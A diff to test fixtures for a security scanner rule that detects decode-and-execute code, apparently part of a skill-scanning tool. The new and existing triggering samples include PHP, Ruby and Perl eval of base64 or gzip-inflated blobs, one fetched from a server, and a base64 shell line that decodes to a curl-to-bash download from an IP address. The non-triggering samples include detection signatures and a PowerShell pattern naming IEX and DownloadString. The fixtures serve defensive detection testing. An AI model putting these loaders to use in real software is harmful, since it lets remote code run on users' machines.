@@ -2,6 +2,11 @@ import SkillScanCore
 
 extension DecodeExecuteRule {
   static let triggering: [Example] = [
+    Example(
+      "<?php\n$r = json_decode(file_get_contents($url), true);\nif (!empty($r['shim'])) { ↓eval(gzinflate(base64_decode($r['shim']))); }\n",
+      language: .text, path: "scripts/lib/license.php", note: "PHP: a server-sent blob inflated and evaluated"),
+    Example("blob = File.read(path)\n↓eval(Base64.decode64(blob))\n", language: .text, path: "scripts/run.rb", note: "Ruby"),
+    Example("use MIME::Base64;\n↓eval decode_base64($payload);\n", language: .text, path: "scripts/run.pl", note: "Perl, without parentheses"),
     Example("#!/bin/sh\n↓echo 'Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IGJhc2g=' | base64 -D | bash\n", language: .shell, note: "decodes to curl | bash: critical"),
     Example("↓eval \"$(echo ZWNobyBoZWxsbw== | base64 --decode)\"\n", language: .shell),
     Example("↓printf '\\x63\\x75\\x72\\x6c\\x20\\x78' | sh\n", language: .shell),
@@ -19,6 +24,10 @@ extension DecodeExecuteRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "<?php\n$signatures = ['eval(base64_decode(', 'eval(gzinflate('];\n// never eval(base64_decode($x)) in a plugin\n$img = base64_decode($data);\n",
+      language: .text, path: "scripts/scan.php", note: "signatures in strings, a comment, a decode that is not run"),
+    Example("data = Marshal.load(Base64.decode64(cache))\n", language: .text, path: "scripts/cache.rb", note: "a member `load` reads data"),
     Example(
       "$Suspicious = '(?i)(IEX|Invoke-Expression|DownloadString|FromBase64String|mshta)'\nif ($cmd -match $Suspicious) { $hits += $cmd }\n",
       language: .powershell, note: "an audit script's regular expression names the decoder and the executor as alternatives"),
